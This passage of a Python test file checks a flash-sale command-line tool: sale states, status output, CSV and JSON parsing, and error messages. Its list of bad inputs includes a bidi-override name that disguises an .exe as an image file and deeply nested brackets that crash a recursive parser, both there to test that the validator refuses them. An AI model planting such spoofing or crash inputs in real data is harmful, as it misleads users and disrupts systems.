    over, later = create(cli, tmp_path), create(cli, tmp_path)
    db.execute("UPDATE sales SET starts_at = now() - interval '2 hours', "
               "ends_at = now() - interval '1 hour' WHERE id = $1", over)  # fmt: skip
    db.execute("UPDATE sales SET starts_at = now() + interval '1 hour', "
               "ends_at = now() + interval '2 hours' WHERE id = $1", later)  # fmt: skip

    def listed(*args: str) -> set[str]:
        result = cli("sale", "list", "--json", "--limit", "1000", *args)
        assert result.code == 0, result.err
        return {sale["id"] for sale in json.loads(result.out)}

    assert over in listed("--state", "ended") and over not in listed("--state", "live")
    assert later in listed("--state", "Scheduled") and later not in listed("--state", "ended")
    assert over not in listed("--state", "scheduled")
    assert over in listed("--status", "active")  # the switch, as pause/resume/end set it
    assert "ended" in cli("sale", "list", "--state", "ended", "--limit", "1").out
    bad = cli("sale", "list", "--state", "over")
    assert bad.code == 2 and bad.out == "", bad
    assert bad.err == ("flashsale: error: --state: must be one of scheduled, live, paused, "
                       "ended, got 'over'\n"), bad.err  # fmt: skip


def test_a_sale_past_its_end_takes_no_more_changes_as_one_ended_by_hand(
    cli: Cli, db: Db, tmp_path: Path
) -> None:
    """Past its end time a sale is ended (buyers are told so), but SKUs, stock and preloads
    were refused only after ``sale end``: units added to a sale nobody can buy from any
    more, and the merchandiser told to preload them."""
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    db.execute("UPDATE sales SET starts_at = now() - interval '2 hours', "
               "ends_at = now() - interval '1 hour' WHERE id = $1", sale_id)  # fmt: skip
    rows = "SELECT sku, stock_total, title FROM sale_skus WHERE sale_id = $1 ORDER BY sku"
    before = db.rows(rows, sale_id)
    extra = write(tmp_path, "sku,stock,price,currency\nSNK-99,5,100,EUR\n", "extra.csv")
    for args in (("import", extra, "--sale", sale_id), ("add-stock", sale_id, "SNK-42", "5"),
                 ("remove-stock", sale_id, "SNK-42", "5"), ("remove-sku", sale_id, "SNK-43"),
                 ("update-sku", sale_id, "SNK-42", "--title", "Late"),
                 ("preload", sale_id, "--force"), ("pause", sale_id),
                 ("resume", sale_id)):  # fmt: skip
        result = cli("sale", *args)
        assert result.code == 1, (args, result)
        assert f"sale {sale_id} has ended" in result.err, (args, result.err)
    assert db.rows(rows, sale_id) == before


def test_an_empty_list_says_so(cli: Cli, tmp_path: Path) -> None:
    """``sale orders`` of a sale without orders, and ``sale list`` past the last sale, printed
    nothing at all: the same as a command that did not get to run."""
    sale_id = create(cli, tmp_path)
    orders = cli("sale", "orders", sale_id)
    assert orders.code == 0 and orders.out == f"no orders in {sale_id} yet\n", orders
    confirmed = cli("sale", "orders", sale_id, "--state", "confirmed")
    assert confirmed.out == f"no CONFIRMED orders in {sale_id}\n", confirmed
    past = cli("sale", "list", "--offset", "100000000")
    assert past.code == 0 and past.out == "no sales past the newest 100,000,000\n", past
    paused = cli("sale", "list", "--status", "paused", "--offset", "100000000")
    assert paused.out == "no paused sales past the newest 100,000,000\n", paused
    as_json = cli("sale", "list", "--offset", "100000000", "--json")
    assert as_json.out == "[]\n", as_json
    csv = cli("sale", "orders", sale_id, "--csv")
    assert csv.out.startswith("id,sku,") and len(csv.out.splitlines()) == 1, csv


def test_the_status_of_a_sale_without_skus_says_how_to_add_them(cli: Cli) -> None:
    """It printed the table's header over no row, and `preload` refused: no SKUs."""
    sale_id = cli("sale", "create", "--name", "No SKUs yet", "--starts-in", "1h").out.strip()
    status = cli("sale", "status", sale_id)
    assert status.code == 0, status.err
    assert "STOCK" not in status.out, status.out
    assert f"no SKUs yet: add some with `flashsale sale import {sale_id} FILE.csv`" in (
        status.out
    ), status.out
    assert f"not preloaded (`flashsale sale preload {sale_id}`)" in status.out, status.out


def test_a_sale_made_with_a_start_long_past_says_it_is_open_already(
    cli: Cli, tmp_path: Path
) -> None:
    """`sale show OLD --template > next.json`, then `sale create --file next.json` without
    `--starts-in` (or a year mistyped): the sale was made open already, its start an hour or
    a year ago, and nothing said so; `sale update` refuses to move the start of a sale that
    has started. It says so, and what can be done."""
    past = (datetime.now(UTC) - timedelta(days=3)).isoformat()
    made = cli("sale", "create", "--name", "Next drop", "--starts-at", past, "--ends-in", "1h",
               "--sku", "A", "--stock", "1", "--price", "100", "--currency", "EUR")  # fmt: skip
    assert made.code == 0, made.err
    sale_id = made.out.strip()
    assert made.err.startswith(f"flashsale: warning: {sale_id} started 3 days ago ("), made.err
    assert f"`flashsale sale delete {sale_id}`" in made.err, made.err
    soon = cli("sale", "create", "--name", "Now", "--sku", "A", "--stock", "1", "--price", "100",
               "--currency", "EUR")  # fmt: skip
    assert soon.code == 0 and soon.err == "", soon.err  # a start of now is what it asks


def test_the_list_of_sales_names_those_not_preloaded(cli: Cli, tmp_path: Path) -> None:
    """`sale list` showed a sale about to open that no buyer could join (never preloaded) as
    any other scheduled sale."""
    sale_id = create(cli, tmp_path)
    line = next(x for x in cli("sale", "list").out.splitlines() if x.startswith(sale_id))
    assert line.endswith("  (not preloaded)"), line
    assert cli("sale", "preload", sale_id).code == 0
    line = next(x for x in cli("sale", "list").out.splitlines() if x.startswith(sale_id))
    assert "preloaded" not in line, line


def test_the_status_says_why_a_sku_has_no_counts(
    cli: Cli, rdb: redis.Redis, tmp_path: Path
) -> None:
    """A SKU without Redis counts showed dashes, whether it was imported after the preload
    (preload it) or lost by Redis (the reconciler rebuilds it): two different things to do."""
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    extra = write(tmp_path, "sku,stock,price,currency\nSNK-99,5,100,EUR\n", "extra.csv")
    assert cli("sale", "import", extra, "--sale", sale_id).code == 0
    rdb.delete(*SkuKeys(sale_id, "SNK-43").all())
    shown = cli("sale", "status", sale_id)
    assert shown.code == 0, shown.err
    assert (f"  SNK-99: not preloaded yet (`flashsale sale preload {sale_id}`)\n" in shown.out
            and "  SNK-43: preloaded, but Redis lost it (`flashsale reconcile --once` rebuilds "
                "it from Postgres)\n" in shown.out), shown.out  # fmt: skip
    assert "SNK-42:" not in shown.out, shown.out
    rows = {row["sku"]: row for row in json.loads(cli("sale", "status", sale_id, "--json").out)
            ["skus"]}  # fmt: skip
    assert [rows[sku]["lost"] for sku in ("SNK-42", "SNK-43", "SNK-99")] == [False, True, False]


def test_the_status_of_a_sale_not_preloaded_says_so_once(cli: Cli, tmp_path: Path) -> None:
    """A sale never preloaded said so in its header, then again under the table for each
    SKU: 30 SKUs, 30 lines of the same hint (20,000 for a large catalogue). Once is enough;
    SKUs imported after a preload are still named, the first few of them, then a count."""
    rows = "".join(f"SKU-{n:02},5,100,EUR\n" for n in range(30))
    sale_id = cli("sale", "create", "--name", "Many", "--starts-in", "1h").out.strip()
    assert cli("sale", "import", sale_id, write(tmp_path, "sku,stock,price,currency\n" + rows,
                                                "skus.csv")).code == 0  # fmt: skip
    hint = f"(`flashsale sale preload {sale_id}`)"
    shown = cli("sale", "status", sale_id)
    assert shown.code == 0, shown.err
    assert shown.out.count(hint) == 1 and f"not preloaded {hint}" in shown.out, shown.out
    assert cli("sale", "preload", sale_id).code == 0
    more = "".join(f"NEW-{n:02},5,100,EUR\n" for n in range(25))
    assert cli("sale", "import", sale_id, write(tmp_path, "sku,stock,price,currency\n" + more,
                                                "more.csv")).code == 0  # fmt: skip
    again = cli("sale", "status", sale_id)
    assert again.code == 0, again.err
    assert again.out.count(hint) == 1, again.out
    assert (f"  25 SKUs not preloaded yet {hint}: NEW-00, NEW-01, NEW-02, NEW-03, NEW-04 and "
            "20 more\n") in again.out, again.out  # fmt: skip


def test_the_status_of_several_skus_ends_with_their_totals(cli: Cli, tmp_path: Path) -> None:
    """A sale of several products had no line for the whole sale: "sold 50 of 110" was a sum
    the operator did in their head, over 60,000 lines for a catalogue."""
    sale_id = create(cli, tmp_path)
    before = cli("sale", "status", sale_id).out.splitlines()
    assert before[-2].split() == ["all", "2", "SKUs", "110", "-", "-", "-", "0"], before
    assert cli("sale", "preload", sale_id).code == 0
    assert cli("sale", "add-stock", sale_id, "SNK-43", "5").code == 0
    after = cli("sale", "status", sale_id).out.splitlines()
    assert after[-2].split() == ["all", "2", "SKUs", "115", "115", "0", "0", "0"], after
    one = cli("sale", "status", sale_id, "--sku", "SNK-43").out
    assert "all 1 SKU" not in one and "all 2" not in one, one  # a total of one is that row


def test_a_watched_status_fits_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """`sale status --watch` of a catalogue redrew its 60,000 rows each second: a terminal
    showed the last few, the queue line and the totals scrolled off."""
    skus = [{"sku": f"K{n}", "stock_total": 5, "available": 5, "held": 0, "sold": 0,
             "confirmed": 0} for n in range(500)]  # fmt: skip
    status = {"sale": {"id": "sale-x", "name": "Big", "state": "live", "status": "active",
                       "preloaded_at": "2026-12-07T09:00:00+00:00",
                       "starts_at": "2026-12-07T09:00:00+00:00",
                       "ends_at": "2026-12-07T10:00:00+00:00"},
              "skus": skus, "revenue": {}}  # fmt: skip
    print_status(status, as_json=False, rows=10)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) <= 10, lines
    assert [line.split()[0] for line in lines[3:6]] == ["K0", "K1", "K2"], lines
    assert lines[-3].strip() == "... and 496 more SKUs (--sku SKU shows one)", lines
    assert lines[-2].split()[:4] == ["all", "500", "SKUs", "2500"], lines


def test_status_watch_refreshes_and_list_prints_json(cli: Cli, tmp_path: Path) -> None:
    sale_id = create(cli, tmp_path)
    before = cli("sale", "status", sale_id)  # not preloaded yet: said in words, not "None"
    assert before.code == 0 and "not preloaded" in before.out and "None" not in before.out
    watched = cli("sale", "status", sale_id, "--watch", "--interval", "0.1", "--count", "2")
    assert watched.code == 0, watched.err
    assert watched.out.count("UTC, every 0.1s") == 2 and watched.out.count("SNK-42") >= 2
    listed = cli("sale", "list", "--json", "--limit", "50")
    assert listed.code == 0 and sale_id in {s["id"] for s in json.loads(listed.out)}
    shouted = cli("sale", "list", "--json", "--status", "ACTIVE")  # as `sale orders --state`
    assert shouted.code == 0 and sale_id in {s["id"] for s in json.loads(shouted.out)}, shouted.err
    bad = cli("sale", "status", sale_id, "--watch", "--interval", "soon")
    assert bad.code == 2 and bad.err.startswith("flashsale: error: --interval: ")
    # --count and --interval without --watch were ignored: one status, and no word of it.
    for flag in ("--count", "--interval"):
        alone = cli("sale", "status", sale_id, flag, "2")
        assert (alone.code, alone.err.strip()) == (
            2,
            f"flashsale: error: {flag}: goes with --watch",
        ), alone
    # With --json each refresh is one line of JSON, whole documents a program can read one by
    # one: the indented JSON was followed by the "-- 12:00:00 UTC" line, no JSON at all.
    lines = cli("sale", "status", sale_id, "--watch", "--json", "--interval", "0.1", "--count", "2")
    assert lines.code == 0, lines.err
    assert [json.loads(line)["sale"]["id"] for line in lines.out.splitlines()] == [sale_id] * 2


# -- bad input: one line naming the field, non-zero exit, nothing written ---------------------


def _sku(**overrides: Any) -> dict[str, Any]:
    return {**SALE, "skus": [{**SALE["skus"][0], **overrides}]}


BAD_SALES = [
    ("sku id with a trailing newline", _sku(sku="SNK-42\n"), "skus[0].sku"),
    ("stock zero", _sku(stock=0), "skus[0].stock"),
    ("stock negative", _sku(stock=-5), "skus[0].stock"),
    ("stock fractional", _sku(stock=1.5), "skus[0].stock"),
    ("stock text", _sku(stock="many"), "skus[0].stock"),
    ("stock boolean", _sku(stock=True), "skus[0].stock"),
    ("price negative", _sku(price=-1), "skus[0].price"),
    ("price fractional", _sku(price=129.99), "skus[0].price"),
    ("unknown currency", _sku(currency="XYZ"), "skus[0].currency"),
    ("lowercase currency", _sku(currency="eur"), "skus[0].currency"),
    ("limit zero", _sku(per_buyer_limit=0), "skus[0].per_buyer_limit"),
    # Each within its own range, the two made an order of 10**19 minor units: the buyer was
    # answered 201, then the order could not be recorded (bigint) and went to dead letters.
    ("a buyer's largest order past what an order holds",
     _sku(price=10**15, per_buyer_limit=10_000), "skus[0].price"),
    ("ttl zero", _sku(hold_ttl_seconds=0), "skus[0].hold_ttl_seconds"),
    ("ttl negative", _sku(hold_ttl_seconds=-1), "skus[0].hold_ttl_seconds"),
    ("ends before starts", {**SALE, "ends_at": "2036-12-01T11:00:00Z"}, "ends_at"),
    # A typo in the year made a sale that could never open, created without a word.
    ("ended already", {**SALE, "starts_at": "2020-01-01T12:00:00Z",
                       "ends_at": "2020-01-01T13:00:00Z"}, "ends_at"),
    ("naive timestamp", {**SALE, "starts_at": "2036-12-01T12:00:00"}, "starts_at"),
    ("bad timestamp", {**SALE, "starts_at": "tomorrow"}, "starts_at"),
    # Stored, then unreadable: the sale list broke on the row (year 0 once in UTC).
    ("year 1", {**SALE, "starts_at": "0001-01-01T00:00:00+14:00",
                "ends_at": "0001-01-01T01:00:00Z"}, "starts_at"),
    ("past year 9999 in UTC", {**SALE, "ends_at": "9999-12-31T23:59:59-14:00"}, "ends_at"),
    ("duplicate sku", {**SALE, "skus": [SALE["skus"][0], SALE["skus"][0]]}, "skus[1].sku"),
    ("unknown field", {**SALE, "colour": "red"}, "colour"),
    ("unknown sku field", _sku(colour="red"), "skus[0].colour"),
    ("bad sku id", _sku(sku="A:B{x}"), "skus[0].sku"),
    ("missing price", {**SALE, "skus": [{"sku": "A", "stock": 1, "currency": "EUR"}]},
     "skus[0].price"),
    ("missing name", {k: v for k, v in SALE.items() if k != "name"}, "name"),
    ("NUL in the name", {**SALE, "name": "drop\u0000"}, "name"),
    ("lone surrogate in the name", {**SALE, "name": "drop\ud800"}, "name"),
    ("control character in a title", _sku(title="Sneaker\u0007"), "skus[0].title"),
    # Shown in the console, the page and the order list: an override reverses what follows.
    ("bidi override in the name", {**SALE, "name": "Drop \u202egnp.exe"}, "name"),
    ("bidi isolate in a title", _sku(title="Sneaker \u2067x"), "skus[0].title"),
    ("malformed json", '{"name": "x", "skus": [', "--file"),
    ("nested too deeply", "[" * 100_000 + "]" * 100_000, "--file"),  # was a RecursionError
    ("a key twice", '{"name": "x", "skus": [{"sku": "A", "stock": 5, "price": 1, "stock": 500, '
                    '"currency": "EUR"}]}', "--file"),
    ("not an object", "[1, 2]", "sale"),
]  # fmt: skip


@pytest.mark.parametrize(("given", "where", "meant"), [
    (_sku(limit=2), "skus[0].limit", "per_buyer_limit"),  # `sale create --limit`
    (_sku(ttl=60), "skus[0].ttl", "hold_ttl_seconds"),  # --ttl (not "title")
    (_sku(titel="Boot"), "skus[0].titel", "title"),
    ({**SALE, "window": 30}, "window", "admission_window_seconds"),
    ({**SALE, "rate": 50}, "rate", "admission_rate"),  # (not "name")
    ({**SALE, "max-queue": 10}, "max-queue", "max_queue"),  # --max-queue
    ({**SALE, "challenge": 8}, "challenge", "join_challenge"),
    ({**SALE, "colour": "red"}, "colour", None),
])  # fmt: skip
def test_an_unknown_field_names_the_one_meant_and_every_field(
    given: dict[str, Any], where: str, meant: str | None
) -> None:
    # `sale create --help` teaches --limit, --ttl and --window: written so in a sale file, the
    # refusal was "skus[0].limit: unknown field", with nothing to say what the file calls it.
    with pytest.raises(InvalidInput) as refused:
        parse_sale(given)
    said = refused.value.message
    assert refused.value.field == where, said
    assert ("did you mean" in said) is (meant is not None), said
    assert meant is None or f"(did you mean {meant}?)" in said, said
    every = "sku, title, stock, price, currency, per_buyer_limit, hold_ttl_seconds, buckets"
    assert said.endswith(every if "[0]" in where else "join_challenge_max, skus"), said


@pytest.mark.parametrize("value", ["tomorrow", "2036-12-01T12:00:00", 20361201])
def test_a_timestamp_refused_shows_an_example_that_would_be_accepted(value: Any) -> None:
    # The example was a fixed date: once past, copying it for ends_at was refused again.
    with pytest.raises(InvalidInput) as refused:
        parse_sale({**SALE, "ends_at": value})
    said = refused.value.message  # an example, or (no timezone) what was given written right
    example = (said.split("e.g. ")[1].split(",")[0] if "e.g. " in said
               else said.split("': ")[1].split(" for UTC")[0])  # fmt: skip
    when = datetime.fromisoformat(example)
    assert when.tzinfo is not None and when > datetime.now(UTC) + timedelta(days=30), example


@pytest.mark.parametrize("field", ["starts_at", "ends_at"])
@pytest.mark.parametrize("value", ["", None, 0, "  "])
def test_an_empty_date_is_refused_not_read_as_left_out(field: str, value: Any) -> None:
    """`"starts_at": ""` opened the sale at once, as a sale file without the field does."""
    with pytest.raises(InvalidInput) as refused:
        parse_sale({**SALE, field: value})
    assert refused.value.field == field, refused.value


def test_an_end_before_the_start_is_told_both() -> None:
    """It said "must be after starts_at", a field name, whichever flag or field was typed."""
    with pytest.raises(InvalidInput) as refused:
        parse_sale({**SALE, "starts_at": "2030-01-01T00:00:00Z",
                    "ends_at": "2029-01-01T00:00:00+01:00"})  # fmt: skip
    assert refused.value.message == (
        "ends_at: must be after the start, 2030-01-01T00:00:00Z, got 2028-12-31T23:00:00Z"
    ), refused.value


def test_a_file_of_skus_given_as_a_sale_says_where_skus_go() -> None:
    """A list of SKUs, or {"skus": [...]} alone, given to `sale create` was "must be a JSON
    object" and "name: must be a non-empty string": nothing said they belong to an import."""
    sku = SALE["skus"][1]
    for data, field in (([sku], "sale"), ({"skus": [sku]}, "name")):
        with pytest.raises(InvalidInput) as refused:
            parse_sale(data)
        assert refused.value.field == field and "sale import" in refused.value.message, refused


def test_a_currency_in_lower_case_is_refused_with_the_code_that_would_be_accepted() -> None:
    # It said "unknown ISO 4217 currency 'eur'", as for a code that does not exist.
    with pytest.raises(InvalidInput) as refused:
        parse_sale({**SALE, "skus": [{**SALE["skus"][0], "currency": "eur"}]})
    assert "upper case: 'EUR'" in refused.value.message, refused.value.message
    with pytest.raises(InvalidInput) as unknown:
        parse_sale({**SALE, "skus": [{**SALE["skus"][0], "currency": "xyz"}]})
    assert "unknown ISO 4217 currency 'xyz'" in unknown.value.message


@pytest.fixture
def counts(db: Db) -> Any:
    def snapshot() -> tuple[int, int]:
        return db.val("SELECT count(*) FROM sales"), db.val("SELECT count(*) FROM sale_skus")

    return snapshot


@pytest.mark.parametrize(("case", "data", "field"), BAD_SALES, ids=[c[0] for c in BAD_SALES])
def test_bad_sale_input(
    cli: Cli, counts: Any, tmp_path: Path, case: str, data: Any, field: str
) -> None:
    before = counts()
    result = cli("sale", "create", "--file", write(tmp_path, data))
    assert result.code == 2, (case, result.out, result.err)
    lines = result.err.strip().splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith(f"flashsale: error: {field}:"), lines[0]
    assert counts() == before


@pytest.mark.parametrize(
    "value", ["נעלי ספורט 42", "حذاء رياضي\u200f", "👩\u200d👩\u200d👧 pack", "Größe \u2013 42½"]
)
def test_names_in_any_script_are_kept_as_they_are(value: str) -> None:
    """Refusing bidi overrides leaves right-to-left text, its marks and emoji joiners alone."""
    assert text(value, "name") == value


@pytest.mark.parametrize(
    ("data", "field", "maximum"),
    [
        (_sku(stock=10**12), "skus[0].stock", "1,000,000,000"),
        (_sku(price=10**16), "skus[0].price", "1,000,000,000,000,000"),
        (_sku(per_buyer_limit=10**5), "skus[0].per_buyer_limit", "10000"),
        ({**SALE, "admission_rate": 10**7}, "admission_rate", "1,000,000"),
        ({**SALE, "max_queue": 10**9}, "max_queue", "100,000,000"),
        ({**SALE, "admission_capacity": 10**8}, "admission_capacity", "10,000,000"),
    ],
)  # fmt: skip
def test_a_number_past_its_maximum_is_told_the_maximum(data: Any, field: str, maximum: str) -> None:
    """ "must be a positive integer, got 99999999999999" told a merchandiser nothing true."""
    with pytest.raises(InvalidInput) as refused:
        parse_sale(data)
    assert refused.value.field == field
    assert maximum in refused.value.message, refused.value.message


@pytest.mark.parametrize("written", ["1,000", "1 000", "1\u202f000", "1'000", "1,000,000"])
def test_a_count_written_with_thousands_separators_is_told_it_without(written: str) -> None:
    """A spreadsheet saves a number as it shows it ("1,000" where the cell groups digits):
    a stock so written was told "must be a positive integer, got '1,000'", and nothing more.
    A price is not told so: "1,499" of EUR is 149900 in minor units, not 1499."""
    with pytest.raises(InvalidInput) as refused:
        parse_sku({"sku": "A", "stock": written, "price": 100, "currency": "EUR"}, "")
    digits = written.replace(",", "").replace(" ", "").replace("\u202f", "").replace("'", "")
    said = refused.value.message
    assert said.endswith(f"got {written!r} (without its thousands separators: {digits})"), said
    with pytest.raises(InvalidInput) as price:
        parse_sku({"sku": "A", "stock": 1, "price": "1,499", "currency": "EUR"}, "")
    assert "separators" not in price.value.message, price.value.message


def test_bad_flags(cli: Cli, counts: Any) -> None:
    """A refused flag is named as it was typed: `--limit 0` was refused as
    "skus[0].per_buyer_limit", the sale file's path of what the flag sets."""
    before = counts()
    result = cli("sale", "create", "--name", "x", "--sku", "A", "--stock", "0",
                 "--price", "1", "--currency", "EUR")  # fmt: skip
    assert result.code == 2
    assert result.err.startswith("flashsale: error: --stock: must be a positive integer"), result
    limit = cli("sale", "create", "--name", "x", "--sku", "A", "--stock", "1", "--price", "1",
                "--currency", "EUR", "--limit", "0")  # fmt: skip
    assert limit.code == 2 and limit.err.startswith("flashsale: error: --limit: "), limit.err
    # A stock past the maximum was told "must be a positive integer", which it was.
    huge = cli("sale", "create", "--name", "x", "--sku", "A", "--stock", "99999999999999",
               "--price", "1", "--currency", "EUR")  # fmt: skip
    assert huge.code == 2 and "at most 1,000,000,000" in huge.err, huge.err
    assert counts() == before
    # A start so far ahead that the date overflowed: a traceback, the sale created or not.
    for flag, value, field in (
        ("--starts-in", "3000000d", "--starts-in"),
        ("--starts-at", "9999-12-31T23:59:59-14:00", "--starts-at"),
    ):
        far = cli("sale", "create", "--name", "x", flag, value, "--sku", "A", "--stock", "1",
                  "--price", "1", "--currency", "EUR")  # fmt: skip
        assert far.code == 2 and len(far.err.strip().splitlines()) == 1, far.err
        assert far.err.startswith(f"flashsale: error: {field}: "), far.err
    assert counts() == before


def test_a_started_sales_fixed_settings_are_named_by_their_flags(cli: Cli) -> None:
    """`sale update --window` on a started sale was refused as "admission_window_seconds
    cannot change (it can: name, ends_at, ...)": the admin API's fields, not the flags."""
    made = cli("sale", "create", "--name", "Open now", "--sku", "A", "--stock", "1",
               "--price", "1", "--currency", "EUR")  # fmt: skip
    assert made.code == 0, made.err
    sale_id = made.out.strip()
    window = cli("sale", "update", sale_id, "--window", "90")
    assert window.code == 1 and window.err.strip() == (
        "flashsale: error: --window cannot change once the sale has started (it can: --name, "
        "--ends-at, --admission-rate, --max-queue, --challenge, --challenge-max)"
    ), window.err
    moved = cli("sale", "update", sale_id, "--starts-in", "10m")  # was named --starts-at
    assert moved.code == 1 and moved.err.startswith(
        "flashsale: error: --starts-in cannot change once the sale has started"
    ), moved.err
    price = cli("sale", "update-sku", sale_id, "A", "--price", "2")
    assert price.code == 1, price.err
    assert price.err.startswith("flashsale: error: --price cannot change"), price.err
    limit = cli("sale", "update-sku", sale_id, "A", "--limit", "2")
    assert limit.code == 1, limit.err
    assert limit.err.strip() == (
        "flashsale: error: --limit cannot change once the sale has started (it can: --title)"
    ), limit.err
    lower = cli("sale", "update", sale_id, "--max-queue", "10")  # it said "can only rise": from?
    assert (lower.code, lower.err.strip()) == (1, (
        "flashsale: error: --max-queue can only rise once the sale has started: it is "
        "200,000, got 10")), lower.err  # fmt: skip


BAD_CSV = [
    ("bad stock", "sku,stock,price,currency\nA,1,100,EUR\nB,zero,100,EUR\n", "row 3.stock"),
    ("bad currency", "sku,stock,price,currency\nA,1,100,EURO\n", "row 2.currency"),
    ("ragged row", "sku,stock,price,currency\nA,1,100\n", "row 2"),
    ("unknown column", "sku,stock,price,currency,colour\nA,1,1,EUR,red\n", "csv.header.colour"),
    ("missing column", "sku,stock,currency\nA,1,EUR\n", "csv.header.price"),
    ("duplicate", "sku,stock,price,currency\nA,1,1,EUR\nA,2,1,EUR\n", "row 3.sku"),
    (
        "duplicate after a blank line",
        "sku,stock,price,currency\nA,1,1,EUR\n\nA,2,1,EUR\n",
        "row 4.sku",
    ),
    (
        "column twice",
        "sku,stock,price,currency,stock\nA,1,1,EUR,2\n",
        "csv.header.stock: appears twice",
    ),
    (
        "pipes",
        "sku|stock|price|currency\nA|1|1|EUR\n",
        "csv.header: columns must be separated by commas, semicolons or tabs, found '|'",
    ),
    ("existing sku", "sku,stock,price,currency\nNEW,1,1,EUR\nSNK-42,2,1,EUR\n", "row 3.sku"),
    (
        "existing sku after a blank line",
        "sku,stock,price,currency\n\nNEW,1,1,EUR\nSNK-42,2,1,EUR\n",
        "row 4.sku",
    ),
    ("empty", "", "file"),
    ("NUL in a title", "sku,title,stock,price,currency\nA,x\u0000y,1,1,EUR\n", "row 2.title"),
]


def test_a_spreadsheets_header_is_read_whatever_its_case() -> None:
    """A header typed in a spreadsheet ("SKU", "Stock") was refused as unknown columns, and
    the refusal did not say which columns there are."""
    batch = parse_csv("SKU,Title,Stock,Price,Currency,Per_Buyer_Limit\nA-1,Air,5,12900,EUR,2\n")
    assert [(s.sku, s.title, s.stock, s.price, s.per_buyer_limit) for s in batch.skus] == [
        ("A-1", "Air", 5, 12900, 2)
    ]
    with pytest.raises(InvalidInput) as unknown:
        parse_csv("sku,stock,price,currency,colour\nA,1,1,EUR,red\n")
    assert unknown.value.field == "csv.header.colour"
    assert "sku, title, stock, price, currency, per_buyer_limit" in unknown.value.message
    with pytest.raises(InvalidInput) as flag:  # named as `sale create --limit` names it
        parse_csv("sku,stock,price,currency,limit\nA,1,1,EUR,2\n")
    assert flag.value.message.startswith(
        "csv.header.limit: unknown column (did you mean per_buyer_limit?); the columns are sku,"
    ), flag.value.message


def test_a_spreadsheets_empty_rows_and_columns_are_left_out() -> None:
    """A spreadsheet exports the rows and columns its user once touched as empty cells:
    `,,,,` lines below the SKUs, and `,,` after the header and each row. The rows were
    refused as missing every field, the header as a column named ""."""
    batch = parse_csv("sku,title,stock,price,currency,,\r\nA,Air,5,100,EUR,,\r\n,,,,,,\r\n"
                      ",  ,,,,,\r\n")  # fmt: skip
    assert [(s.sku, s.title, s.stock) for s in batch.skus] == [("A", "Air", 5)]
    # A row may end before the header's empty columns, or run past it with empty cells.
    ragged = parse_csv("sku,stock,price,currency,,\nA,5,100,EUR\nB,5,100,EUR,,,,\n")
    assert [s.sku for s in ragged.skus] == ["A", "B"]
    with pytest.raises(InvalidInput) as named:  # a value under no name is still a mistake
        parse_csv("sku,stock,price,currency,\nA,1,1,EUR,red\n")
    assert named.value.message == (
        "row 2: has a value in column 5, which has no name in the header: 'red'"
    )
    with pytest.raises(InvalidInput) as short:  # a row cut short, said in the singular too
        parse_csv("sku,stock,price,currency\nA\n")
    assert short.value.message == "row 2: has 1 column: the header has 4"
    with pytest.raises(InvalidInput) as empty:
        parse_csv("sku,stock,price,currency\n,,,\n")
    assert empty.value.message == "csv: has a header but no rows"


def test_empty_rows_above_the_header_are_left_out_too() -> None:
    """A sheet whose table starts a few rows down exports those rows as blank lines or empty
    cells: the file was refused as "empty", or its header as missing every column."""
    for above in ("\n\n", "\r\n", ",,,,\n;;\n", "\ufeff\n ,\t\n"):
        batch = parse_csv(above + "sku;stock;price;currency\nA;5;100;EUR\n")
        assert [(s.sku, s.stock) for s in batch.skus] == [("A", 5)], repr(above)
    with pytest.raises(InvalidInput) as wrong:  # rows keep their line in the file
        parse_csv("\n,,\nsku,stock,price,currency\nA,5,0.5,EUR\n")
    assert wrong.value.field == "row 4.price", wrong.value
    with pytest.raises(InvalidInput) as empty:
        parse_csv("\n,,,\n\n")
    assert empty.value.message.startswith("csv: is empty: expected a header row"), empty.value


def test_a_quote_never_closed_is_named_where_it_opened() -> None:
    """An unclosed quote took every line after it as one cell: the file was refused as "row 2:
    has 1 column" (a row with four), or, further down, by the last line's number."""
    with pytest.raises(InvalidInput) as last:
        parse_csv('sku,stock,price,currency\n"A,1,1,EUR\n')
    assert last.value.message == 'row 2: a quote (") opened in this row is never closed'
    with pytest.raises(InvalidInput) as early:
        parse_csv('sku,title,stock,price,currency\nA,"Air,5,100,EUR\nB,Bee,5,100,EUR\n\n')
    assert early.value.message.startswith('row 2: a quote (") opened'), early.value
    with pytest.raises(InvalidInput) as stray:  # was read as "Ax", without a word
        parse_csv('sku,stock,price,currency\n"A"x,1,1,EUR\n')
    assert stray.value.field == "row 2", stray.value
    # A quote inside a cell that is not quoted is the cell's, and a quoted cell may hold the
    # separator or a line break (refused in a title, by the line its row starts on).
    inches = parse_csv('sku,title,stock,price,currency\nA,"Air, 12"" wide",5,100,EUR\n'
                       'B,Bee 9" wide,5,100,EUR\n')  # fmt: skip
    assert [s.title for s in inches.skus] == ['Air, 12" wide', 'Bee 9" wide']
    with pytest.raises(InvalidInput) as broken:
        parse_csv('sku,title,stock,price,currency\nA,"two\nlines",5,100,EUR\n')
    assert broken.value.field == "row 2.title", broken.value


@pytest.mark.parametrize(("case", "content", "field"), BAD_CSV, ids=[c[0] for c in BAD_CSV])
def test_bad_csv_writes_nothing(
    cli: Cli, counts: Any, tmp_path: Path, case: str, content: str, field: str
) -> None:
    sale_id = create(cli, tmp_path)
    before = counts()
    result = cli("sale", "import", write(tmp_path, content, "skus.csv"), "--sale", sale_id)
    assert result.code == 2, (case, result.err)
    assert result.err.startswith(f"flashsale: error: {field}")
    assert len(result.err.strip().splitlines()) == 1
    assert counts() == before


@pytest.mark.parametrize(
    "argv",
    [
        ("sale", "preload", "sale-doesnotexist"),
        ("sale", "status", "sale-doesnotexist"),
        ("sale", "pause", "sale-doesnotexist"),
        ("sale", "end", "sale-doesnotexist"),
        ("sale", "add-stock", "sale-doesnotexist", "A", "5"),
        ("sale", "import", "examples/extra-skus.csv", "--sale", "sale-doesnotexist"),
        ("sale", "status", "{bad}"),
    ],
)
def test_unknown_sale(cli: Cli, counts: Any, argv: tuple[str, ...]) -> None:
    before = counts()
    result = cli(*argv)
    assert result.code == 1
    assert "unknown sale" in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert counts() == before


def test_an_unknown_sale_names_the_one_its_id_was_cut_from_or_its_name_names(
    cli: Cli, tmp_path: Path
) -> None:
